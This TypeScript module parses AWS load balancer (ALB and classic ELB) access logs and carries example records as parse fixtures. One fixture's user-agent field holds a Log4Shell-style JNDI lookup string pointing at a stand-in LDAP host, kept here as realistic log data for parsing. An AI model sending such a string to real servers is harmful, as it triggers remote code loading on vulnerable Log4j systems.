import { readTime } from '../time/read-time.ts'
import { addressOf } from './address-of.ts'
import type { LogFormat } from './format.ts'
import { quotedFields, requestOf } from './quoted-fields.ts'

/** Access logs of Elastic Load Balancing: of application load balancers, which begin with a type, and of classic ones. */
export const awsLoadBalancer: LogFormat = {
  id: 'aws-load-balancer',
  summary: 'access logs of AWS load balancers: application (ALB) and classic (ELB)',
  definedBy: 'https://docs.aws.amazon.com/elasticloadbalancing/latest/application/load-balancer-access-logs.html',
  examples: {
    reads: [
      {
        record:
          'https 2021-12-12T04:25:41.186641Z app/my-lb/50dc6c495c0c9188 203.0.113.9:2817 10.0.0.1:80 0.086 0.048 0.037 200 200 0 57 "GET https://www.example.com:443/a?q=1 HTTP/1.1" "${jndi:ldap://x.example/a}" ECDHE-RSA-AES128-GCM-SHA256 TLSv1.2 arn:aws:elasticloadbalancing:us-east-2:123456789012:targetgroup/my-targets/73e2d6bc24d8a067 "Root=1-58337281-1d84f3d73c47ec4e58577259" "www.example.com" "-" 1 2021-12-12T04:25:41.100000Z "authenticate,forward" "-" "-" "10.0.0.1:80" "200" "-" "-"',
        when: '2021-12-12T04:25:41.186Z',
        from: '203.0.113.9',
        request: 'GET https://www.example.com:443/a?q=1',
        userAgent: '${jndi:ldap://x.example/a}',
      },
      {
        record:
          '2021-12-12T04:25:41.693175Z my-elb 203.0.113.9:2817 10.0.0.1:80 0.001337 0.033743 0.000026 200 200 0 13 "GET http://example.com:80/ HTTP/1.1" "curl/7.38.0" - -',
        when: '2021-12-12T04:25:41.693Z',
        from: '203.0.113.9',
        request: 'GET http://example.com:80/',
        userAgent: 'curl/7.38.0',
      },
    ],
    refuses: [
      'https 2021-12-12T04:25:41.186641Z app/my-lb/50dc6c495c0c9188',
      '2021-12-12T04:25:41.693175Z my-elb 203.0.113.9:2817 "GET / HTTP/1.1"',
    ],
  },
  read({ text }, { around }) {
    const head =
      /^(?:[a-z\d]{2,6} )?(\d{4}-\d\d-\d\dT\S{8,24}) \S{1,300} (\S{1,60}) \S{1,60}(?: -?\d[\d.]{0,20}){3}(?: (?:\d{1,3}|-)){2}(?: \d{1,20}){2} "/.exec(
        text,
      )
    if (head === null) return null
    const [whole, time = '', client] = head
    const [request = '', ...others] = quotedFields(text, whole.length - 1)
    const [userAgent = '-'] = others
    const names = ['user agent', 'trace', 'domain', 'certificate']
    return {
      when: readTime(time, around),
      from: addressOf(client),
      request: requestOf(request),
      userAgent: userAgent === '-' ? null : userAgent,
      fields: [
        { name: 'request', value: request },
        ...others.map((value, index) => ({ name: names[index] ?? null, value })),
      ],
    }
  },
}
